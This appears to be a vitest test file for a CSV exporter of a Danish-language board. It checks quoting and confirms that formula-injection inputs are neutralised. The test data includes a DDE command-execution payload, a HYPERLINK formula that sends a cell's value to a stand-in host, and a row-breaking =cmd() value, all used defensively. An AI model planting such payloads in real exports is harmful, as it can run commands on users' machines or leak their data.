import { describe, expect, test } from 'vitest'
import { boardCsv, csvValue } from './board-csv.ts'
import { WORDS, written } from './export-words.fixture.ts'

/** Reads what a spreadsheet reads: values between semicolons, quoted ones with line breaks and doubled quotes. */
function read(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true)
  const rows: string[][] = [[]]
  for (let i = 1; i < csv.length; ) {
    let value = ''
    if (csv[i] === '"') {
      for (i++; i < csv.length; i++) {
        if (csv[i] !== '"') value += csv[i]
        else if (csv[i + 1] === '"') value += csv[i++]
        else break
      }
      i++
    } else {
      while (i < csv.length && csv[i] !== ';' && csv[i] !== '\r') value += csv[i++]
    }
    rows.at(-1)?.push(value)
    if (csv[i] === ';') i++
    else {
      expect(csv.slice(i, i + 2)).toBe('\r\n')
      i += 2
      if (i < csv.length) rows.push([])
    }
  }
  return rows
}

const one = (text: string) =>
  boardCsv([{ frame: 'shape:f', title: 'Rejse', cells: [{ title: 'Smerte', texts: [written(text)] }] }], WORDS)

describe('a board as CSV', () => {
  test('has a head and a row for each text', () => {
    const csv = boardCsv(
      [
        {
          frame: 'shape:f',
          title: 'Rejse',
          cells: [
            { title: undefined, texts: [written('Først', { author: 'anna' })] },
            {
              title: 'Smerte',
              texts: [written('Æblegrød; på «øen»', { example: true }), written('B', { role: undefined })],
            },
          ],
        },
        { frame: 'shape:g', title: '', cells: [{ title: undefined, texts: [written('C', { colour: 'nothing' })] }] },
        { frame: null, title: '', cells: [{ title: undefined, texts: [written('D')] }] },
      ],
      WORDS,
    )
    expect(read(csv)).toEqual([
      ['Felt', 'Celle', 'Rolle', 'Tekst', 'Forfatter', 'Farve', 'Eksempel'],
      ['Rejse', '', 'Smertepunkt', 'Først', 'Anna Holm', 'Lyserød', 'nej'],
      ['Rejse', 'Smerte', 'Smertepunkt', 'Æblegrød; på «øen»', '', 'Lyserød', 'ja'],
      ['Rejse', 'Smerte', '', 'B', '', 'Lyserød', 'nej'],
      ['Felt uden navn', '', 'Smertepunkt', 'C', '', '', 'nej'],
      ['Uden for felterne', '', 'Smertepunkt', 'D', '', 'Lyserød', 'nej'],
    ])
  })

  test.each([
    ['a quote', 'hun sagde "nej"', 'hun sagde "nej"'],
    ['only quotes', '""', '""'],
    ['lines', 'en\nto\n\ntre', 'en\nto\n\ntre'],
    ['lines of other systems', 'en\r\nto\rtre\u2028fire', 'en\nto\ntre\nfire'],
    ['a separator', 'a;b,c\td', 'a;b,c\td'],
    ['a row that ends itself', 'x"\r\n=cmd();"', 'x"\n=cmd();"'],
    ['control characters', 'a\u0000b\u001Bc\u0085d', 'abc\nd'],
    ['spaces at the ends', ' a ', ' a '],
  ])('keeps a text with %s in its one value', (_, text, expected) => {
    expect(read(one(text))[1]?.[3]).toBe(expected)
    expect(read(one(text))).toHaveLength(2)
  })

  test.each([
    '=1+1',
    '+45 12345678',
    '-1',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?"&A1;"Klik")',
    '  =1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '\u0001=1+1',
    '\u0000@a',
    '\n=1+1',
    '\uFF1D1+1',
    '\uFF20a',
    '\tx',
    '\rx',
    '\r\n+1',
  ])('makes %j text that is not reckoned', (text) => {
    expect(read(one(text))[1]?.[3]?.startsWith("'")).toBe(true)
    expect(csvValue(text)).toMatch(/^"?'/)
  })

  test.each(['Ringer = venter', 'e-mail', 'a@kommune.example', '1+1', "'citat'", ''])('leaves %j as it is', (text) => {
    expect(csvValue(text)).toBe(text)
  })

  test('takes the same care of names of sections, cells, roles, people and colours', () => {
    const words = { ...WORDS, role: () => '=r', author: () => '=a', colour: () => '=c', yes: '=y' }
    const csv = boardCsv(
      [{ frame: 'f', title: '=s', cells: [{ title: '=c', texts: [written('=t', { example: true, author: 'x' })] }] }],
      words,
    )
    expect(read(csv)[1]).toEqual(["'=s", "'=c", "'=r", "'=t", "'=a", "'=c", "'=y"])
  })
})
